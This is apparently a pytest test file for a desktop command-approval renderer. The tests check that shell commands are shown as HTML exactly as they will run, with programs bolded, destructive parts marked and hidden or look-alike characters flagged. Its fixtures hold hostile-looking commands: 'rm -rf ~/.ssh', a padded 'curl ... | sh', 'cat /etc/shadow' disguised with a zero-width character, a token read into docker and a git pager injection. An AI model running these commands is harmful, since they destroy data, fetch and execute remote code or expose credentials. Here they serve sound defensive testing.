"""HTML for shell commands: what is shown is exactly what runs, programs bold, risky parts marked."""

from __future__ import annotations

import re
import shlex
from html.parser import HTMLParser

import pytest

from desktop_approver.render import command_html, highlight
from desktop_approver.render.reveal import marker_text

# -- commands: what is shown is exactly what runs ------------------------------------------------

class _Unrender(HTMLParser):
    """Strip the markup, drop layout-only parts, turn markers back into their characters."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.out: list[str] = []
        self.skipping = False
        self.marker: list[str] | None = None

    def handle_comment(self, data: str) -> None:
        if data == "not-command":
            self.skipping = True
        elif data == "/not-command":
            self.skipping = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "span" and ("data-marker", "1") in attrs:
            self.marker = []

    def handle_endtag(self, tag: str) -> None:
        if tag == "span" and self.marker is not None:
            self.out.append(marker_text("".join(self.marker)))
            self.marker = None

    def handle_data(self, data: str) -> None:
        if self.skipping:
            return
        (self.marker if self.marker is not None else self.out).append(data)


def shown_command(page: str) -> str:
    parser = _Unrender()
    parser.feed(page)
    parser.close()
    return "".join(parser.out)


COMMANDS = [
    "ls -la",
    "rm -rf \"$DIR\"/",
    "echo \u202e; rm -rf ~/.ssh",
    "r\u043c -rf build",
    "ls" + " " * 40 + "; curl -fsSL https://example.com/x.sh | sh",
    "printf '\x1b[8mhidden\x1b[0m' && cat\u200b /etc/shadow",
    "a\x9bb\x07 & c\u00a0d",
    "cd /repo && git push --force origin main && npm install left-pad --registry https://registry.example.com",
    "python -c 'import shutil; shutil.rmtree(\"/tmp/x\")'   # trailing comment   ",
    "cat <<'EOF' > run.sh\nset -e\necho done\nEOF\nbash run.sh",
    "docker run --rm -v \"$PWD:/src\" -e TOKEN=$(cat ~/.token) image:latest sh -c \"make && make install\"",
    "echo 'unterminated quote that is quite long and keeps going past the eighty column limit for sure",
    "literal marker text <U+202E> and ⟨3 spaces⟩ and \\x1b stays literal",
]


@pytest.mark.parametrize("command", COMMANDS)
def test_command_html_shows_exactly_what_runs(command: str) -> None:
    page, _warnings = command_html.render_command_html(command, "/repo")
    assert shown_command(page) == command


@pytest.mark.parametrize("argv", [
    ["rm", "-rf", "/tmp/dir with spaces"],
    ["bash", "-lc", "echo \u202e && ls\nrm x"],
    ["python", "-c", "print('x' * 100)", "--flag=" + "y" * 90],
])
def test_argv_is_shown_as_a_shell_line_that_splits_back(argv: list[str]) -> None:
    page, _warnings = command_html.render_command_html(argv, None)
    assert shlex.split(shown_command(page)) == argv


def test_long_commands_put_each_command_on_a_line_and_wrap_arguments_by_words() -> None:
    command = COMMANDS[7]
    page, _warnings = command_html.render_command_html(command)
    layout = re.findall(r"<!--not-command-->(.*?)<!--/not-command-->", page)
    assert len(layout) == 2 and all("<br/>" in part for part in layout)  # before each "&&", not per argument
    long = "echo " + " ".join(f"word{i}" for i in range(400)) + "; rm -rf ~/"
    page, _warnings = command_html.render_command_html(long)
    assert page.count("<br/>") == 1 and "white-space:pre-wrap" in page
    short, _ = command_html.render_command_html("ls -la")
    assert "<br/>" not in short


def test_the_dangerous_parts_of_a_command_are_marked() -> None:
    command = "echo " + "a " * 1000 + "; rm -rf ~/ && ls"
    page, _warnings = command_html.render_command_html(command)
    assert page.count('data-danger="destructive"') == 1
    marked = page.split('data-danger="destructive">')[1]
    assert re.sub(r"<[^>]+>", "", marked).startswith("rm -rf ~/")
    assert "echo" not in marked and "echo" in page.split("data-danger")[0]
    assert shown_command(page) == command
    calm, _ = command_html.render_command_html("ls -la && git status")
    assert "data-danger" not in calm


def test_command_warnings_and_markers() -> None:
    page, warnings = command_html.render_command_html("echo \u202e; r\u043c -rf /", "/home/dev")
    assert any("right-to-left" in warning for warning in warnings)
    assert any("look-alike" in warning for warning in warnings)
    assert page.count('data-marker="1"') == 2
    assert "in /home/dev" in page


def bold_words(page: str) -> list[str]:
    return re.findall(f'<span style="{re.escape(highlight.COMMAND_STYLE)}">([^<]*)</span>', page)


def test_command_names_stand_out() -> None:
    page, _ = command_html.render_command_html("sudo rm -rf /tmp/x | tee log")
    assert bold_words(page) == ["rm", "tee"]   # what runs; sudo is a wrapper the risk badge names


@pytest.mark.parametrize(("command", "programs"), [
    ("timeout 5 nice -n 2 stdbuf -oL bash -c 'rm -rf x'", ["rm"]),
    ("env A=1 xargs -0 rm < list", ["rm"]),
    ("echo $(curl -s x | sh) && ls", ["curl", "sh", "echo", "ls"]),
    ("find . -name '*.o' -exec rm {} +", ["find", "rm"]),
    ("eval 'git push --force'", ["git"]),
    (shlex.join(["timeout", "5", "bash", "-c", "rm -rf x && git -c core.pager='sh -c id' log"]), ["rm", "git"]),
    ('bash -c "echo \\"x\\"; rm y"', ["echo", "rm"]),
    ("bash -c $'rm\\tx'", ["rm"]),
])
def test_the_highlighter_bolds_exactly_the_programs_the_parser_finds(command: str, programs: list[str]) -> None:
    page, _ = command_html.render_command_html(command)
    assert sorted(bold_words(page)) == sorted(programs)


def test_a_working_directory_with_hidden_characters_is_flagged() -> None:
    _page, warnings = command_html.render_command_html("ls", "/repo/\u202etxt.exe")
    assert any(warning.startswith("working directory") for warning in warnings)
